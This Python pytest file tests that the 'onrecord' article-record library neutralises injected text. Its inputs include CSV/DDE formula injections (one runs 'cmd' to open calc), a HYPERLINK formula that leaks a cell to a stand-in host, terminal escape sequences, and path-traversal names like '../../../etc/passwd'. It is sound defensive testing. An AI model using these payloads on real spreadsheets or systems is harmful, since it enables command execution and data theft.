"""What an article holds is inert wherever it is shown or written, and comes back as it was."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from onrecord.errors import OutputError
from onrecord.read import read_records
from onrecord.records import Actor, Article, ArticleRecord
from onrecord.write import open_writer

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://a.example/?"&A1)',
    "-",
    "--1",
    "+49 30 1234",
]
CONTROLS = "\x1b]0;owned\x07 \x1b[2J \x9b31m \x85 \x00 \u202e \u2066 \u2028"


def record_of(text, **fields):
    """A record in which all free text is the text given."""
    whole = {"start": 0, "end": len(text), "text": text}
    actor = Actor(id="a1", name=text, type="person", roles=(text,), mentions=({**whole, "kind": "name"},))
    claim = {
        "id": "c1",
        "quotation": "direct",
        "speech_act": "statement",
        "source": {"actor": "a1", "span": whole},
        "cue": {**whole, "lemma": text},
        "content": [whole],
        "hedge": text,
        "medium": text,
    }
    article = {"id": "x", "title": text, "site": text, "byline": [text], **fields}
    return ArticleRecord.model_validate(
        {"article": Article.of(text, **article), "actors": [actor], "claims": [claim]}
    )


def csv_of(record):
    stream = io.BytesIO()
    with open_writer(stream, "csv") as writer:
        writer.write(record)
    return stream.getvalue().decode()


FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text):
    (row,) = csv.DictReader(io.StringIO(csv_of(record_of(text)), newline=""))
    assert not any(FORMULA.match(cell) for cell in row.values())


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", [";", "\t", "\n"])
def test_no_cell_is_a_formula_where_cells_end_elsewhere(text, separator):
    """A spreadsheet that splits at semicolons or tabs begins cells in the midst of an article's words."""
    for written in (f"a{separator}{text}", f'a"{separator}{text}'):
        cells = re.split(r"[;\t\r\n]+", csv_of(record_of(written)))
        assert not any(re.match(r"[=+\-@＝＋－＠]", cell) for cell in cells)


@pytest.mark.parametrize("number", ["-3.5", "+4", "-1,200", "-0.25"])
def test_a_number_with_a_sign_stays_a_number(number):
    (row,) = csv.DictReader(io.StringIO(csv_of(record_of(number))))
    assert row["content"] == row["title"] == number


@pytest.mark.parametrize("written", ["records.jsonl", "records.parquet", "records.duckdb"])
@pytest.mark.parametrize(
    "text", [*FORMULAS, CONTROLS, "a\ufffe\uffff", "e\u0301\u200b\u200d\ufeff", "</script>"]
)
def test_any_text_comes_back_as_it_was(tmp_path, written, text):
    record = record_of(text)
    with open_writer(tmp_path / written) as writer:
        writer.write(record)
    assert list(read_records(tmp_path / written)) == [record]


@pytest.mark.parametrize("field", ["text", "title", "url", "site", "published", "id"])
def test_half_a_surrogate_pair_is_in_no_record(field):
    """No file of records can hold it; so what can be made can be written."""
    with pytest.raises(ValidationError, match="surrogates not allowed"):
        Article.of(**{"text": "It rained.", field: "half \ud800 a pair"})


def is_printable(shown):
    return not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", shown)


@pytest.fixture
def two_files(tmp_path):
    """Two files of records that differ, full of what steers a terminal."""
    for name, text in (("old", f"It rained. {CONTROLS}"), ("new", f"It snowed. {CONTROLS}")):
        (tmp_path / f"{name}.jsonl").write_text(record_of(text).model_dump_json() + "\n")
    silent = record_of(f"It rained. {CONTROLS}").model_copy(update={"claims": ()})
    (tmp_path / "silent.jsonl").write_text(silent.model_dump_json() + "\n")
    return tmp_path


@pytest.mark.parametrize(
    "command_line",
    [
        "show {0}/old.jsonl",
        "show --claims {0}/old.jsonl",
        "diff {0}/old.jsonl {0}/new.jsonl",
        "diff {0}/old.jsonl {0}/new.jsonl --format github",
        "evaluate {0}/silent.jsonl {0}/old.jsonl --errors",
    ],
)
def test_no_command_lets_text_steer_the_terminal(command, two_files, command_line):
    _, printed, said = command(*command_line.format(two_files).split())
    assert "It rained." in printed
    assert is_printable(printed)
    assert is_printable(said)


def test_failures_and_names_of_files_steer_nothing(command, tmp_path):
    name = tmp_path / "a\x1b[2Jb\u202e.txt"
    name.write_bytes(b"\0")
    _, printed, said = command("extract", name, "--method", "rules")
    assert printed == ""
    assert "binary" in said
    assert is_printable(said)


@pytest.mark.parametrize("suffix", ["jsonl", "parquet", "duckdb"])
@pytest.mark.parametrize(
    "name", ["a[1]", "a*", "-rf", 'it\'s "a"', "=1+1", "two\nlines", "{a,b}", "%s$(x)", "ルン"]
)
def test_any_name_of_a_file_is_a_name(tmp_path, name, suffix):
    record = record_of("It rained.")
    with open_writer(tmp_path / f"{name}.{suffix}") as writer:
        writer.write(record)
    assert list(read_records(tmp_path / f"{name}.{suffix}")) == [record]


@pytest.mark.parametrize("name", ["who?.duckdb", "who?/o.duckdb"])
def test_a_name_that_duckdb_cannot_take_is_refused_before_any_work(tmp_path, name):
    (tmp_path / "who?").mkdir()
    with pytest.raises(OutputError, match="name it otherwise"), open_writer(tmp_path / name):
        pytest.fail("opened")


def test_no_file_is_named_by_an_article(tmp_path, monkeypatch):
    """Titles and ids are words of strangers: what is written goes to the names that the user gave."""
    monkeypatch.chdir(tmp_path)
    record = record_of("It rained.", id="../../outside", title="../../../etc/passwd\0")
    for name in ("o.jsonl", "o.csv", "o.parquet", "o.duckdb"):
        with open_writer(name) as writer:
            writer.write(record)
    assert sorted(path.name for path in tmp_path.rglob("*")) == [
        "o.csv", "o.duckdb", "o.jsonl", "o.parquet", "o.records.parquet",
    ]  # fmt: skip


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=30))
def test_whatever_is_written_is_read_back(text):
    record = record_of(text)
    (row,) = csv.DictReader(io.StringIO(csv_of(record), newline=""))
    assert row["content"].replace("'", "") == text.replace("'", "")
    stream = io.BytesIO()
    with open_writer(stream, "jsonl") as writer:
        writer.write(record)
    assert stream.getvalue().count(b"\n") == 1
    assert ArticleRecord.model_validate(json.loads(stream.getvalue())) == record
